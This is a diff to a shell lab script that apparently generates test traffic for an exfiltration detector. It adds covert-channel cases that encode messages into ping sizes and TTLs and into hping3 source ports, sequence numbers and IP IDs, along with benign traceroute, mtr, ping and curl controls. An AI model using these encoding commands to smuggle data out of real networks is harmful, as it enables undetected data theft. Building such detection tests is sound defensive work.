@@ -5,11 +5,11 @@
 #
 # Needs root and (Debian names): tcpdump ethtool iproute2 iputils-ping curl wget zip nginx-light vsftpd lftp swaks
 # python3-aiosmtpd netcat-openbsd openssl samba smbclient bsdextrautils bsdutils
-# snmp sip-tester socat.
+# snmp sip-tester socat hping3 traceroute mtr-tiny.
 set -eu
 export XFL_PREFIX=${XFL_PREFIX:-thf}
 all=(http_archive_curl ftp_report_curl mail_report_swaks raw_pieces_nc posts_curl program_wget covert_ping staged_smbclient
-    logs_logger traps_snmptrap udp_push_socat benign_theft_tools benign_messages)
+    logs_logger traps_snmptrap udp_push_socat header_pings header_syns benign_headers benign_theft_tools benign_messages)
 # shellcheck source=tests/lab/lab.sh
 . "$(dirname "$0")/lab.sh"
 out=203.0.113.20
@@ -180,6 +180,33 @@ udp_push_socat() { # an encrypted file to a port where calls begin, and nobody a
     head -c 2600000 "$dir/share/plans.img" | "${cli[@]}" socat -u -b 1400 - UDP4-SENDTO:$out:3478
 }
 snap_udp_push_socat() { echo 64; }
+
+letters() { # text: the number of each letter
+    printf %s "$1" | od -An -v -t u1 -w1 | tr -d ' '
+}
+header_pings() { # a text as lengths of pings, another as their times to live
+    local n
+    for n in $(letters 'the key is under the stone by the old mill'); do "${cli[@]}" ping -q -c 1 -W 1 -s "$n" $out || true; done
+    for n in $(letters 'flag{a_wall_has_ears}'); do "${cli[@]}" ping -q -c 1 -W 1 -t "$n" 203.0.113.21 || true; done
+}
+header_syns() { # hping3: a text as source ports, another as first sequence numbers, a third as identifications
+    local n i=0
+    for n in $(letters 'meet jo at nine, come alone, bring plans'); do "${cli[@]}" hping3 -q -S -c 1 -p 8081 -s "$n" -k $out || true; done
+    for n in $(letters 'the key is under the stone'); do
+        "${cli[@]}" hping3 -q -S -c 1 -p 8081 -M $((n << 24)) 203.0.113.21 || true
+    done
+    for n in $(letters 'burn after reading'); do # a flow each
+        "${cli[@]}" hping3 -q -2 -c 1 -p 8082 -s $((40000 + i++)) -N $((n << 8)) 203.0.113.22 || true
+    done
+}
+benign_headers() { # ways that are traced, sizes that are tried, a server asked again and again
+    local n
+    "${cli[@]}" traceroute -n -q 3 -w 0.3 $out || true
+    "${cli[@]}" traceroute -n -I -w 0.3 $out || true
+    "${cli[@]}" mtr -n -r -c 8 -i 0.2 $out || true
+    for n in $(seq 20 8 420); do "${cli[@]}" ping -q -c 1 -W 1 -s "$n" $out || true; done
+    for n in $(seq 40); do "${cli[@]}" curl -s -m 5 -o /dev/null http://$out/index.html || true; done
+}
 
 benign_messages() { # logs and traps to a provider's servers, and calls
     local i
